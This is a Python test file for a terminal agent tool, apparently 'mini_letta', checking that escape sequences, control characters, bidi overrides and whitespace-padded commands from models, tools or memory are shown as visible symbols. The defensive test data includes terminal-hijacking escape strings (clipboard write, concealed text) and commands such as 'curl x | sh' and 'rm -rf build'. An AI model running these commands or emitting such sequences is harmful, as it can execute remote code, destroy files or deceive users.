"""Text from a model, a tool, a file, a session or memory is shown, never obeyed by the terminal."""

import io
import subprocess
import sys

from rich.console import Console

from mini_letta.memory import Block, CoreMemory
from mini_letta.repl.views import memory_view
from mini_letta.sessions.listing import SessionSummary, session_table
from mini_letta.trust.terminal_text import one_line, visible, visible_command
from mini_letta.toolbox import Toolbox
from mini_letta.messages import ToolCall

HOSTILE = "a\x1b[8mhidden\x1b[0m \x1b]52;c;aGk=\x07 \x9b2K \u202eevil \x00\x7f"


def rendered(renderable) -> str:
    out = io.StringIO()
    Console(file=out, width=200, force_terminal=True, color_system="truecolor").print(renderable)
    return out.getvalue()


def test_escape_sequences_and_controls_become_visible_symbols():
    shown = visible(HOSTILE)
    assert shown == "a␛[8mhidden␛[0m ␛]52;c;aGk=␇ <U+009B>2K <U+202E>evil ␀␡"
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in shown)


def test_prose_keeps_its_layout_and_drops_carriage_returns():
    assert visible("line one\r\n\tindented\n") == "line one\n\tindented\n"
    assert visible("50%\r100%") == "50%100%"


def test_a_command_shows_every_character_including_spaces_a_reader_could_miss():
    command = "ls;" + " " * 5 + "curl x | sh\r# tidy\tz\u00a0 "
    assert visible_command(command) == "ls;␣␣␣␣␣curl x | sh␍# tidy␉z<U+00A0>␣"
    assert visible_command("  indented\nsecond line") == "␣␣indented\nsecond line"
    assert visible_command("echo a b") == "echo a b"


def test_a_one_line_preview_collapses_whitespace_so_the_payload_stays_in_view():
    preview = one_line("ls;" + " " * 200 + "curl x | sh\n  rm -rf build")
    assert preview == "ls; curl x | sh ⏎ rm -rf build"
    call = ToolCall("c1", "bash", '{"command": "ls;' + " " * 200 + 'curl x | sh"}')
    assert "curl x | sh" in Toolbox(".").describe(call)


def test_memory_view_shows_markup_and_escapes_as_written(tmp_path):
    memory = CoreMemory([Block("project", "notes", "split on [/\\] [conceal]x[/conceal] \x1b[8mgone", 2000)])
    out = rendered(memory_view(memory))
    assert "split on [/\\] [conceal]x[/conceal] ␛[8mgone" in out
    assert "\x1b[8m" not in out


def test_the_sessions_table_shows_a_first_prompt_with_markup_as_written(tmp_path):
    summary = SessionSummary("20260101-000000-abcdef", tmp_path, "2026-01-01T00:00", str(tmp_path),
                             "grep '[/a-z]' and [conceal]secret[/conceal] \x1b[8m", 2, 10)
    out = rendered(session_table([summary]))
    assert "grep '[/a-z]' and [conceal]secret[/conceal] ␛[8m" in out


def test_mini_letta_sessions_lists_a_session_whose_first_prompt_holds_markup(tmp_path):
    env = {"MINI_LETTA_HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin", "COLUMNS": "200"}
    workspace = tmp_path / "ws"
    workspace.mkdir()
    run = lambda *args: subprocess.run([sys.executable, "-m", "mini_letta", *args], cwd=workspace, env=env,  # noqa: E731
                                       capture_output=True, text=True, timeout=60)
    assert run("-p", "grep '[/a-z]' in [bold]src[/bold]", "--provider", "demo").returncode == 0
    listed = run("sessions")
    assert listed.returncode == 0, listed.stderr
    assert "grep '[/a-z]' in [bold]src[/bold]" in listed.stdout
